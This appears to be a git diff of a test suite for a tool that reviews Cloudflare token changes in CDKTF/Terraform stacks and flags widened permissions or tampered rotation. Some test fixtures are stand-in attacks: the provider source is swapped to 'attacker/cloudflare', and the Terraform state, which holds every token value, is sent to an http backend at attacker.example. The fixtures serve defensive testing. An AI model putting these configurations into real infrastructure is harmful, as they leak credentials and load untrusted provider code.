@@ -32,12 +32,13 @@ function stack(change: Json = {}, extra: Json = {}): Json {
  * The rotation shape the library writes (lib/token/rotation.ts), taken from a real synth of a
  * rotating token, so the reviewer is tested against what the constructs emit.
  */
-function rotating(everyDays: number, graceDays: number): { change: Json; extra: Json } {
+function rotating(everyDays: number, graceDays: number, edit?: (token: CloudflareToken) => void): { change: Json; extra: Json } {
   const stack = new TerraformStack(Testing.app(), 'prod');
   const token = new CloudflareToken(stack, 'dns', {
     policies: [Policy.allow({ permissions: ['DNS Write'], resources: [Resource.zone(ZONE)] })],
     rotation: { everyDays, graceDays },
   });
+  edit?.(token);
   // toTerraform keeps the "//" records (Testing.synth strips them).
   const synth = JSON.parse(JSON.stringify(stack.toTerraform())) as Json;
   const resource = synth.resource.cloudflare_api_token[token.resource.friendlyUniqueId];
@@ -49,6 +50,14 @@ function rotating(everyDays: number, graceDays: number): { change: Json; extra: 
     },
     extra: { resource: { terraform_data: synth.resource.terraform_data }, locals: synth.locals },
   };
+}
+
+/** `rot` with the start record (the `terraform_data` recording the first plan's time) edited. */
+function tamperedStart(rot: { change: Json; extra: Json }, edit: (record: Json) => Json): Json {
+  const data = JSON.parse(JSON.stringify(rot.extra.resource.terraform_data)) as Json;
+  const name = Object.keys(data).find((n) => n.includes('rotation-start'))!;
+  data[name] = edit(data[name]);
+  return { ...rot.extra, resource: { terraform_data: data } };
 }
 
 /** `rot` with the generation record's input edited: an expression the library does not write. */
@@ -142,6 +151,8 @@ function referenceSpellingCases(): Record<string, Case> {
 }
 
 const rot30 = rotating(30, 7);
+/** The `terraform` block cdktf writes for a stack with the Cloudflare provider. */
+const CDKTF_TERRAFORM = { required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '5.14.0' } }, backend: { local: { path: 'terraform.prod.tfstate' } } };
 const CASES: Record<string, Case> = {
   'a token inside a module (local main.tf) granting API Tokens Write on all zones': {
     base: { stack: stack() },
@@ -166,6 +177,46 @@ const CASES: Record<string, Case> = {
     code: 1,
     says: 'module m from git::https://***@github.com/acme/mod.git',
     never: 'ghp_secret123',
+  },
+  'the same module from an absolute path (its files cannot be compared)': {
+    base: { stack: stack({}, { module: { tokens: { source: '/opt/modules/tokens' } } }) },
+    head: { stack: stack({}, { module: { tokens: { source: '/opt/modules/tokens' } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'module that cannot be compared: module tokens from /opt/modules/tokens (cannot be compared: its files are outside the synth output); its code may have changed',
+  },
+  'the same module from outside the synth output (../../..)': {
+    base: { stack: stack({}, { module: { tokens: { source: '../../../../modules/tokens' } } }) },
+    head: { stack: stack({}, { module: { tokens: { source: '../../../../modules/tokens' } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'cannot be compared: its files are outside the synth output',
+  },
+  'the same module from a git branch (a mutable ref)': {
+    base: { stack: stack({}, { module: { tokens: { source: 'git::https://github.com/acme/tokens.git?ref=main' } } }) },
+    head: { stack: stack({}, { module: { tokens: { source: 'git::https://github.com/acme/tokens.git?ref=main' } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'module that cannot be compared: module tokens from git::https://github.com/acme/tokens.git?ref=main',
+  },
+  'the same registry module and version (the registry decides what a version downloads)': {
+    base: { stack: stack({}, { module: { tokens: { source: 'acme/tokens/cloudflare', version: '1.0.0' } } }) },
+    head: { stack: stack({}, { module: { tokens: { source: 'acme/tokens/cloudflare', version: '1.0.0' } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'module tokens from acme/tokens/cloudflare (cannot be compared:',
+  },
+  'the same module pinned to a git commit is unchanged': {
+    base: { stack: stack({}, { module: { tokens: { source: `git::https://github.com/acme/tokens.git?ref=${'a1b2c3d4'.repeat(5)}` } } }) },
+    head: { stack: stack({}, { module: { tokens: { source: `git::https://github.com/acme/tokens.git?ref=${'a1b2c3d4'.repeat(5)}` } } }) },
+    verdict: 'unchanged',
+    code: 0,
+  },
+  'the same local module inside the synth output, same files, is unchanged': {
+    base: { stack: stack({}, { module: { tokens: { source: './modules/tokens' } } }), files: { 'modules/tokens/main.tf': '# nothing\n' } },
+    head: { stack: stack({}, { module: { tokens: { source: './modules/tokens' } } }), files: { 'modules/tokens/main.tf': '# nothing\n' } },
+    verdict: 'unchanged',
+    code: 0,
   },
   'a new provisioner': {
     base: { stack: stack() },
@@ -273,6 +324,48 @@ const CASES: Record<string, Case> = {
     verdict: 'wider',
     code: 1,
     says: 'cannot be read',
+  },
+  'generation record with lifecycle.ignore_changes = [input] (never replaced again): unreadable': {
+    base: { stack: stack(rot30.change, rot30.extra) },
+    head: { stack: stack(rot30.change, rotating(30, 7, (t) => t.rotationGeneration!.addOverride('lifecycle.ignore_changes', ['input'])).extra) },
+    verdict: 'wider',
+    code: 1,
+    says: 'rotation changed and cannot be read',
+  },
+  'generation record with an extra triggers_replace: unreadable': {
+    base: { stack: stack(rot30.change, rot30.extra) },
+    head: { stack: stack(rot30.change, rotating(30, 7, (t) => t.rotationGeneration!.addOverride('triggers_replace', ['x'])).extra) },
+    verdict: 'wider',
+    code: 1,
+    says: 'rotation changed and cannot be read',
+  },
+  'generation record with count = 0: unreadable': {
+    base: { stack: stack(rot30.change, rot30.extra) },
+    head: { stack: stack(rot30.change, rotating(30, 7, (t) => t.rotationGeneration!.addOverride('count', 0)).extra) },
+    verdict: 'wider',
+    code: 1,
+    says: 'rotation changed and cannot be read',
+  },
+  'generation record with an extra input field: unreadable': {
+    base: { stack: stack(rot30.change, rot30.extra) },
+    head: { stack: stack(rot30.change, tamperedGeneration(rot30, (input) => ({ ...input, note: 'x' }))) },
+    verdict: 'wider',
+    code: 1,
+    says: 'rotation changed and cannot be read',
+  },
+  'start record with an extra triggers_replace: unreadable': {
+    base: { stack: stack(rot30.change, rot30.extra) },
+    head: { stack: stack(rot30.change, tamperedStart(rot30, (record) => ({ ...record, triggers_replace: '${timestamp()}' }))) },
+    verdict: 'wider',
+    code: 1,
+    says: 'rotation changed and cannot be read',
+  },
+  'start record with a wider lifecycle: unreadable': {
+    base: { stack: stack(rot30.change, rot30.extra) },
+    head: { stack: stack(rot30.change, tamperedStart(rot30, (record) => ({ ...record, lifecycle: { ...record.lifecycle, prevent_destroy: true } }))) },
+    verdict: 'wider',
+    code: 1,
+    says: 'rotation changed and cannot be read',
   },
   'a new GitHub secret in another repository': {
     base: { stack: stack({}, secret('infra', 'CF_TOKEN')) },
@@ -395,6 +488,62 @@ const CASES: Record<string, Case> = {
     verdict: 'stack-wider',
     code: 1,
     says: 'new or changed Cloudflare provider',
+  },
+  "the Cloudflare provider's source swapped for someone else's": {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, required_providers: { cloudflare: { source: 'attacker/cloudflare', version: '5.14.0' } } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'new or changed Terraform settings: terraform block: cloudflare = attacker/cloudflare 5.14.0; backend local',
+  },
+  "the Cloudflare provider's version loosened": {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, required_providers: { cloudflare: { source: 'cloudflare/cloudflare', version: '>= 5.0.0' } } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'cloudflare = cloudflare/cloudflare >= 5.0.0',
+  },
+  'the state (every token value) sent to an http backend': {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack({}, { terraform: { ...CDKTF_TERRAFORM, backend: { http: { address: 'https://attacker.example/state' } } } }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'terraform block: cloudflare = cloudflare/cloudflare 5.14.0; backend http (settings ',
+  },
+  'the terraform block dropped (default providers, local state)': {
+    base: { stack: stack({}, { terraform: CDKTF_TERRAFORM }) },
+    head: { stack: stack() },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'terraform block: none',
+  },
+  'a token deleted behind a removed block with destroy = false (the credential stays alive)': {
+    base: { stack: stack() },
+    head: { stack: { resource: {}, removed: [{ from: 'cloudflare_api_token.dns', lifecycle: { destroy: false } }] } },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'new or changed removed block: removed cloudflare_api_token.dns with destroy = false: Terraform forgets the token but does NOT delete it; the credential stays alive, unmanaged',
+  },
+  'a removed block that destroys is still listed and counts as wider': {
+    base: { stack: stack() },
+    head: { stack: stack({}, { removed: [{ from: 'cloudflare_account_token.old', lifecycle: { destroy: true } }] }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'removed cloudflare_account_token.old: Terraform destroys the token',
+  },
+  'a new moved block': {
+    base: { stack: stack() },
+    head: { stack: stack({}, { moved: [{ from: 'cloudflare_api_token.other', to: 'cloudflare_api_token.dns' }] }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'new or changed moved block: moved cloudflare_api_token.other to cloudflare_api_token.dns',
+  },
+  'an import block changed to adopt another token': {
+    base: { stack: stack({}, { import: [{ to: 'cloudflare_api_token.dns', id: 'aaaa' }] }) },
+    head: { stack: stack({}, { import: [{ to: 'cloudflare_api_token.dns', id: 'bbbb' }] }) },
+    verdict: 'stack-wider',
+    code: 1,
+    says: 'new or changed import block: import bbbb into cloudflare_api_token.dns',
   },
   'two tokens claiming one construct path cannot hide a widening behind each other': {
     base: {
@@ -537,4 +686,37 @@ describe('the module reproduction, synthesized by cdktf', () => {
     expect(run.stdout).toContain('**Tokens get wider.**');
     expect(run.stdout).toMatch(/new or changed module: module tokens from /);
   }, 60_000);
+});
+
+describe('the example app (stacks/, as main.ts builds them), synthesized by cdktf', () => {
+  test('against itself it is unchanged (exit 0), and prod still reads as rotating', async () => {
+    const { App } = await import('cdktf');
+    const { ENVIRONMENTS } = await import('../../../stacks/environments');
+    const { TokenStack } = await import('../../../stacks/token-stack');
+    const synthApp = (outdir: string) => {
+      const app = new App({ outdir, skipValidation: true });
+      for (const env of ENVIRONMENTS) new TokenStack(app, env.name, env);
+      app.synth();
+    };
+    synthApp(join(work, 'example-base'));
+    synthApp(join(work, 'example-head'));
+    const [diff, report] = await Promise.all([
+      runCliProcess(root, ['diff', join(work, 'example-base'), join(work, 'example-head'), '--fail-on-widen', '--json']),
+      runCliProcess(root, ['report', join(work, 'example-head')]),
+    ]);
+    expect({ code: diff.code, stderr: diff.stderr }).toEqual({ code: 0, stderr: '' });
+    const parsed = JSON.parse(diff.stdout);
+    expect({ changed: parsed.changed, added: parsed.added, removed: parsed.removed, stackChanges: parsed.stackChanges, widened: parsed.widened }).toEqual({
+      changed: [],
+      added: [],
+      removed: [],
+      stackChanges: [],
+      widened: false,
+    });
+    expect(parsed.unchanged.length).toBeGreaterThan(0);
+    expect(report.code).toBe(0);
+    expect(report.stdout).toContain("rotates every 30 days, 7 days' grace");
+    expect(report.stdout).not.toContain('rotation this tool cannot read');
+    expect(report.stdout).toContain('terraform block: cloudflare = cloudflare/cloudflare 5.14.0');
+  }, 120_000);
 });
